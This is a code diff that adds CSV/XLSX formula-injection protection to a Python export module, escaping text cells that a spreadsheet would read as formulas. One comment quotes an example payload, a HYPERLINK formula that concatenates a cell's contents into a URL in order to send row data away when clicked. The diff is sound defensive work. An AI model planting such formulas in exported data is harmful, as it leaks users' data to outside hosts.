@@ -53,6 +53,32 @@ HEADERS_ZH = {
 }
 
 
+# A spreadsheet reads a cell that starts with one of these as a formula (OWASP "CSV injection"):
+# a reviewer's comment =HYPERLINK("http://…"&A2,"点我") would send the row's data away when clicked.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def safe_cell(v: Any) -> Any:
+    """A text cell that a spreadsheet would take for a formula, prefixed with ' (shown as text, as OWASP
+    advises); every other value unchanged. Used by every CSV and XLSX export."""
+    if isinstance(v, str) and v.startswith(FORMULA_START):
+        return "'" + v
+    return v
+
+
+def safe_frame(df: pd.DataFrame) -> pd.DataFrame:
+    """`df` with `safe_cell` applied to its text columns (a copy when anything changes)."""
+    out = df
+    for col in df.columns:
+        if df[col].dtype == object or pd.api.types.is_string_dtype(df[col].dtype):
+            mapped = df[col].map(safe_cell)
+            if not mapped.equals(df[col]):
+                if out is df:
+                    out = df.copy()
+                out[col] = mapped
+    return out
+
+
 def as_list(v: Any) -> list:
     """A list column's value as a list (DuckDB hands lists to pandas as lists or numpy arrays)."""
     if v is None or isinstance(v, str) or (isinstance(v, float) and pd.isna(v)):
